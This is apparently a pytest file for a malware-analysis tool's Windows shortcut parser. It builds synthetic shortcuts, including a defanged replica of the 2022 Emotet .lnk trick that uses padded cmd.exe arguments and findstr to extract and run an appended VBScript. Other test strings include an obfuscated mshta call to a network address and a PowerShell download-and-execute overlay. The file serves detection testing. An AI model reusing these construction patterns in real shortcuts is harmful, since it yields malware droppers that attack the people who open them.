"""Shortcuts built field by field; the real ones are in test_lnk_agreement."""

import random
import struct
from uuid import UUID

import pytest

from sekisho.analyzers.lnk import FEATURES, analyze, hotkey_name
from sekisho.model.artifact import Artifact, Feature
from sekisho.model.errors import LimitError, MalformedError

CLSID = bytes.fromhex("0114020000000000c000000000000046")
MY_COMPUTER = UUID("20D04FE0-3AEA-1069-A2D8-08002B30309D").bytes_le
STRING_FLAGS = {"description": 0x04, "relative_path": 0x08, "working_dir": 0x10, "arguments": 0x20, "icon": 0x40}
B1_PATTERN = "glKmfOKnQLYKnNs.*"


def item(body):
    return struct.pack("<H", len(body) + 2) + body


def root_item(guid=MY_COMPUTER):
    return item(b"\x1f\x50" + guid)


def drive_item(drive="C:\\"):
    return item(b"\x2f" + drive.encode() + bytes(22 - len(drive)))


def file_item(name, *, short="", directory=False):
    short_name = (short or name[:8]).encode() + b"\0"
    short_name += bytes(len(short_name) % 2)
    head = bytes([0x31 if directory else 0x32, 0]) + struct.pack("<IIH", 0, 0, 0x10 if directory else 0x20)
    long_name = name.encode("utf-16-le") + b"\0\0"
    extension_at = 2 + len(head) + len(short_name)
    size = 42 + len(long_name) + 4
    extension = struct.pack("<HHIIIH", size, 8, 0xBEEF0004, 0, 0, 0x2A).ljust(42, b"\0") + long_name
    extension += b"\0\0" + struct.pack("<H", extension_at)
    return item(head + short_name + extension)


def id_list(*names):
    """The list of a path on C:, its last part a file."""
    folders = [file_item(name, directory=True) for name in names[:-1]]
    items = b"".join([root_item(), drive_item(), *folders, file_item(names[-1])]) + b"\0\0"
    return struct.pack("<H", len(items)) + items


def block(signature, body):
    return struct.pack("<II", len(body) + 8, signature) + body


def environment_block(ansi, unicode="", signature=0xA0000001):
    return block(signature, ansi.encode().ljust(260, b"\0") + unicode.encode("utf-16-le").ljust(520, b"\0"))


def tracker_block(machine, droid):
    volume = UUID("11111111-2222-4333-8444-555555555555").bytes_le
    body = struct.pack("<II", 88, 0) + machine.encode().ljust(16, b"\0") + (volume + UUID(droid).bytes_le) * 2
    return block(0xA0000003, body)


def build_lnk(
    *, target=(), info=b"", blocks=b"", overlay=b"", end=b"\0\0\0\0", unicode=True, index=0, show=1, hotkey=0, **strings
):
    flags = 0x80 if unicode else 0
    flags |= 0x01 if target else 0
    flags |= 0x02 if info else 0
    body = id_list(*target) if target else b""
    body += info
    for name, flag in STRING_FLAGS.items():
        if name in strings:
            flags |= flag
            raw = strings[name].encode("utf-16-le" if unicode else "cp932")
            body += struct.pack("<H", len(raw) // 2 if unicode else len(raw)) + raw
    header = struct.pack("<I", 0x4C) + CLSID + struct.pack("<II", flags, 0x20) + bytes(24)
    header += struct.pack("<IiIH", 0, index, show, hotkey) + bytes(10)
    return header + body + blocks + end + overlay


def read(data, name="form.lnk"):
    """Features by name (lists), children by name, and the error that ended it."""
    features, children, error = {}, {}, None
    try:
        for one in analyze(Artifact(name, data, name)):
            if isinstance(one, Feature):
                assert one.name in FEATURES
                features.setdefault(one.name, []).append(one.value)
            else:
                children[one.name] = one
    except (MalformedError, LimitError) as raised:
        error = raised
    return features, children, error


def vbs(lines=3):
    return b"".join(b'glKmfOKnQLYKnNs = CreateObject("WScript.Shell") \' %d\r\n' % number for number in range(lines))


def emotet_b1(name="form 04.25.2022.lnk"):
    """The shape of the April 2022 variant, its script harmless."""
    arguments = (
        "/v:on /c " + " " * 120 + f'findstr "{B1_PATTERN}" "{name}" > "%tmp%\\YlScZcZKeP.vbs" & "%tmp%\\YlScZcZKeP.vbs"'
    )
    return build_lnk(
        target=("Windows", "system32", "cmd.exe"),
        relative_path="..\\..\\Windows\\system32\\cmd.exe",
        arguments=arguments,
        icon="shell32.dll",
        index=1,
        show=7,
        overlay=b"\r\n" + vbs(),
    )


def test_target_comes_from_the_long_names_of_the_item_list():
    features, _, error = read(build_lnk(target=("Program Files", "見積書", "a tool.exe")))
    assert error is None
    assert features["lnk.target"] == ["C:\\Program Files\\見積書\\a tool.exe"]
    assert features["lnk.item"] == ["C:\\", "Program Files", "見積書", "a tool.exe"]


def test_emotet_with_appended_script():
    features, children, error = read(emotet_b1(), "form 04.25.2022.lnk")
    assert error is None
    assert features["lnk.interpreter"] == ["cmd"]
    assert features["lnk.names_itself"] == [True]
    assert features["lnk.named_shortcut"] == ["form 04.25.2022.lnk"]
    assert features["lnk.document_icon"] == [True]
    assert features["lnk.padding"] == [121]
    assert features["lnk.show_command"] == ["SW_SHOWMINNOACTIVE"]
    assert features["lnk.target_bytes"] == [0]
    assert features["lnk.overlay_bytes"] == [len(vbs()) + 2]
    assert features["lnk.self_extracts"] == ["%tmp%\\YlScZcZKeP.vbs"]
    assert children["command line"].kind == "cmd"
    assert children["command line"].data.startswith(b"cmd.exe /v:on /c ")
    assert children["overlay.vbs"].relation == "overlay"
    assert children["YlScZcZKeP.vbs"].data == vbs()
    assert children["YlScZcZKeP.vbs"].kind == ""


def test_emotet_with_powershell_names_itself_without_findstr():
    name = "Invoice for payment.lnk"
    arguments = f'-command Out-String -InputObject "{name}{" " * 110}" | Out-Null; [System.Text.Encoding]::ASCII'
    data = build_lnk(target=("Windows", "System32", "WindowsPowerShell", "v1.0", "powershell.exe"), arguments=arguments)
    for shown in (name, "renamed.lnk"):
        features, children, _ = read(data, shown)
        assert features["lnk.names_itself"] == [True]
        assert features["lnk.interpreter"] == ["powershell"]
        assert features["lnk.padding"] == [110]
        assert children["command line"].data.startswith(b"powershell.exe -command Out-String")


def test_a_hard_coded_name_that_is_not_this_file_is_still_cut_out():
    features, children, _ = read(emotet_b1("Password2.doc.lnk"), "INVOICE 2022-04-22_1033, USA.doc.lnk")
    assert features["lnk.named_shortcut"] == ["Password2.doc.lnk"]
    assert children["YlScZcZKeP.vbs"].data == vbs()


def test_ordinary_shortcut_raises_no_flag():
    data = build_lnk(target=("Program Files", "App", "app.exe"), arguments="--profile default", icon="C:\\App\\app.exe")
    features, children, error = read(data)
    assert error is None
    assert features["lnk.names_itself"] == [False]
    assert features["lnk.document_icon"] == [False]
    assert "lnk.overlay_bytes" not in features
    assert "lnk.interpreter" not in features
    assert list(children) == ["command line"]
    assert children["command line"].data == b'"C:\\Program Files\\App\\app.exe" --profile default'


def test_words_of_prose_are_no_interpreters():
    data = build_lnk(target=("a", "notes.exe"), arguments="meet at noon, sc and reg, in python control")
    assert "lnk.interpreter" not in read(data)[0]
    data = build_lnk(target=("a", "notes.exe"), arguments="/c m^sh^t^a http://198.51.100.7/ & reg.exe add x")
    assert read(data)[0]["lnk.interpreter"] == ["mshta", "reg"]


def test_environment_block_goes_before_the_item_list_and_its_ansi_path_counts_alone():
    data = build_lnk(
        target=("Users", "Public", "report.pdf"), arguments="/c whoami", blocks=environment_block("%COMSPEC%")
    )
    features, children, _ = read(data)
    assert features["lnk.target"] == ["%COMSPEC%"]
    assert features["lnk.targets_disagree"] == [True]
    assert features["lnk.interpreter"] == ["cmd"]
    assert children["command line"].data == b"cmd.exe /c whoami"


def test_arguments_after_an_overlong_path_are_those_that_explorer_runs():
    """The count of a path says 1,000; Explorer reads 260 characters and goes on after them."""
    arguments = '/c "calc.exe"'
    inner = ("C:\\x" + " " * 256).encode("utf-16-le")
    rest = struct.pack("<H", len(arguments)) + arguments.encode("utf-16-le") + bytes(4)
    header = bytearray(build_lnk()[:0x4C])
    header[0x14:0x18] = struct.pack("<I", 0x80 | 0x10 | 0x20)
    features, _, error = read(bytes(header) + struct.pack("<H", 1_000) + inner + rest)
    assert error is None
    assert features["lnk.arguments"] == [arguments]
    assert features["lnk.overlong_string"] == ["working_dir"]


def test_characters_beyond_the_dialog_are_counted():
    features, children, _ = read(build_lnk(target=("w", "cmd.exe"), arguments="/c rem " + " \n\t" * 200 + "calc"))
    assert features["lnk.padding"] == [601]
    assert features["lnk.hidden_chars"] == [len("C:\\w\\cmd.exe") + 1 + 7 + 600 + 4 - 260]
    assert children["command line"].data.endswith(b"calc")


def test_ansi_strings_are_read_as_japanese_when_they_are():
    features, _, _ = read(build_lnk(unicode=False, description="請求書を開く", arguments="/c echo"))
    assert features["lnk.description"] == ["請求書を開く"]


def test_tracker_gives_machine_and_network_card():
    data = build_lnk(blocks=tracker_block("desktop-1", "4D60E6FD-F76C-11EA-9D93-9A6CB2227E78"))
    features, _, _ = read(data)
    assert features["lnk.machine_id"] == ["desktop-1"]
    assert features["lnk.mac"] == ["9a:6c:b2:22:7e:78"]
    assert features["lnk.droid_at"] == ["2020-09-15T15:58:31+00:00"]


def test_appended_without_an_end_is_still_handed_back():
    features, children, error = read(build_lnk(arguments="/c x", end=b"", overlay=vbs()))
    assert isinstance(error, MalformedError)
    assert children["overlay.vbs"].data == vbs()
    assert features["lnk.overlay_at"] == [error.at]


@pytest.mark.parametrize(
    ("overlay", "name"),
    [
        (b"MZ" + bytes(100), "overlay.exe"),
        (b"<html><hta:application id=x></html>", "overlay.hta"),
        (b"$u=New-Object Net.WebClient;Invoke-Expression $env:x", "overlay.ps1"),
        (b"@echo off\r\ngoto x\r\n", "overlay.bat"),
        (b"%PDF-1.4\n", "overlay.pdf"),
        (b"\x01\x02\x03\xff" * 9, "overlay.bin"),
    ],
)
def test_overlay_is_named_by_its_content(overlay, name):
    assert read(build_lnk(overlay=overlay))[1][name].data == overlay


def test_zero_padding_is_no_overlay():
    features, children, error = read(build_lnk(overlay=bytes(512)))
    assert (children, error) == ({}, None)
    assert features["lnk.overlay_bytes"] == [512]


def test_content_of_an_unknown_block_is_a_child():
    features, children, _ = read(build_lnk(blocks=block(0xA0FF0001, b"%PDF-1.4\n" + bytes(100))))
    assert features["lnk.unknown_block"] == ["a0ff0001"]
    assert children["block a0ff0001.pdf"].relation == "embedded"


def test_link_info_gives_the_network_path():
    share, device, suffix = b"\\\\files\\pub\0", b"Z:\0", b"a\\b.exe\0"
    network = struct.pack("<5I", 20 + len(share) + len(device), 3, 20, 20 + len(share), 0x20000) + share + device
    head = struct.pack("<7I", 28 + len(network) + len(suffix), 28, 2, 0, 0, 28, 28 + len(network))
    features, _, error = read(build_lnk(info=head + network + suffix))
    assert error is None
    assert features["lnk.target"] == ["\\\\files\\pub\\a\\b.exe"]
    assert features["lnk.network_device"] == ["Z:"]


def test_a_broken_link_info_does_not_hide_the_arguments():
    info = struct.pack("<7I", 28, 28, 1, 9_000, 9_000, 0, 9_000)
    features, children, error = read(build_lnk(info=info, arguments="/c x"))
    assert "at byte" in str(error)
    assert features["lnk.arguments"] == ["/c x"]
    assert "command line" in children


def test_hotkeys_read_as_users_write_them():
    assert hotkey_name(0x0670) == "CTRL+ALT+F1"
    assert hotkey_name(0x0341) == "CTRL+SHIFT+A"
    assert read(build_lnk(hotkey=0x0670))[0]["lnk.hotkey"] == ["CTRL+ALT+F1"]


def test_a_cut_file_keeps_what_was_read_and_says_where_it_broke():
    whole = emotet_b1()
    cut = whole.index("findstr".encode("utf-16-le"))
    features, _, error = read(whole[:cut])
    assert features["lnk.target"] == ["C:\\Windows\\system32\\cmd.exe"]
    assert features["lnk.relative_path"] == ["..\\..\\Windows\\system32\\cmd.exe"]
    assert error.at is not None
    assert "arguments" in str(error)


def test_only_foreseen_errors_come_out_of_broken_shortcuts():
    seeds = [
        emotet_b1(),
        build_lnk(
            target=("a", "b.exe"),
            blocks=environment_block("x", "y") + tracker_block("m", "4D60E6FD-F76C-11EA-9D93-9A6CB2227E78"),
        ),
    ]
    dice = random.Random(20220425)
    for _ in range(300):
        data = bytearray(dice.choice(seeds))
        for _ in range(dice.randrange(1, 6)):
            data[dice.randrange(0x14, len(data))] = dice.choice((0, 1, 0x7F, 0xFF, dice.randrange(256)))
        read(bytes(data[: dice.randrange(20, len(data) + 1)]))
